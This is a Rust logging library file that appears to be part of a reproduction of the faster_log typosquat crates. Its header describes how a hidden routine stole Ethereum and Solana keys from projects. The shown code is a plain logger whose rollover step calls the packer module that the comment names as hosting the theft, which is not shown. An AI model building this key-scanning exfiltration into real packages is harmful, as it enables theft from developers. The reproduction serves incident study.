// Incident: faster_log / async_println (crates.io), May-September 2025. Typosquats of the
// fast_log logging crate that kept its working code and docs, and hid a routine in the log
// packing path that scanned the project's .rs files for Ethereum/Solana private keys and
// byte arrays and POSTed them to an endpoint dressed up as a Solana RPC pool. See packer.rs.
// Reference: https://blog.rust-lang.org/2025/09/24/crates.io-malicious-crates-fasterlog-and-asyncprintln/
// Reproduction (own code, placeholder host).
pub mod appender;
pub mod packer;

use std::sync::OnceLock;

use crossbeam_channel::{unbounded, Sender};

pub use appender::{FileAppender, LogRecord};

static SENDER: OnceLock<Sender<LogRecord>> = OnceLock::new();

pub struct Config {
    pub path: String,
    pub level: log::LevelFilter,
    pub max_bytes: u64,
}

impl Default for Config {
    fn default() -> Self {
        Config { path: "target/logs/app.log".into(), level: log::LevelFilter::Info, max_bytes: 10 << 20 }
    }
}

struct ChannelLogger {
    level: log::LevelFilter,
}

impl log::Log for ChannelLogger {
    fn enabled(&self, metadata: &log::Metadata) -> bool {
        metadata.level() <= self.level
    }

    fn log(&self, record: &log::Record) {
        if let Some(tx) = SENDER.get() {
            let _ = tx.send(LogRecord {
                level: record.level(),
                target: record.target().to_string(),
                line: format!("{}", record.args()),
            });
        }
    }

    fn flush(&self) {}
}

/// Starts the background writer thread and installs the global logger.
pub fn init(config: Config) -> Result<(), log::SetLoggerError> {
    let (tx, rx) = unbounded::<LogRecord>();
    let _ = SENDER.set(tx);
    let mut appender = FileAppender::open(&config.path, config.max_bytes);
    std::thread::spawn(move || {
        for rec in rx {
            if appender.write(&rec) {
                packer::pack_rolled(&appender.rolled_path());
            }
        }
    });
    log::set_boxed_logger(Box::new(ChannelLogger { level: config.level }))?;
    log::set_max_level(config.level);
    Ok(())
}
